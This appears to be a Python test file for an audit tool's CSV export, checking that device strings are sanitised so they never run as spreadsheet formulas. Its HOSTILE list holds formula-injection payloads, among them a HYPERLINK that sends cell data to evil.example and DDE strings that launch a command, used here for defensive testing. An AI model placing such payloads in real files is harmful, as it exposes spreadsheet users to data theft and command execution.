"""Device strings in report.csv / evidence.csv never run as spreadsheet formulas."""

from __future__ import annotations

import csv
import io

from agent.processors.audit.model import CampusAudit, CampusInfo, Evidence, Indicator, Status
from agent.processors.audit.report.tables import cell, evidence_csv, indicators_csv

HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
           "x\r=1+1", "y\n@A1")


def test_cells() -> None:
    for s in HOSTILE:
        assert not cell(s).startswith(("=", "+", "-", "@", "\t")), s
        assert "\r" not in cell(s) and "\n" not in cell(s)
    for s in ("-3.5", "+4", "0", "sw-1", "教学楼A", ""):
        assert cell(s) == s


def test_report_and_evidence_csv() -> None:
    ev = tuple(Evidence(subject=s, kind="device", status=Status.FAIL, detail=s, building=s)
               for s in HOSTILE)
    ind = Indicator(id="ipv6_share", family="ipv6", title_zh="IPv6", title_en=HOSTILE[0],
                    value=-1.5, unit="%", evidence=ev, note=HOSTILE[1])
    audit = CampusAudit(CampusInfo("hn-x", "X"), 0, 1, (ind,))
    for text in (evidence_csv([audit]), indicators_csv([audit], [])):
        for row in list(csv.reader(io.StringIO(text, newline="")))[1:]:
            for value in row:
                assert not value.startswith(("=", "+", "@", "\t", "\r")), value
                assert not value.startswith("-") or value == "-1.5", value
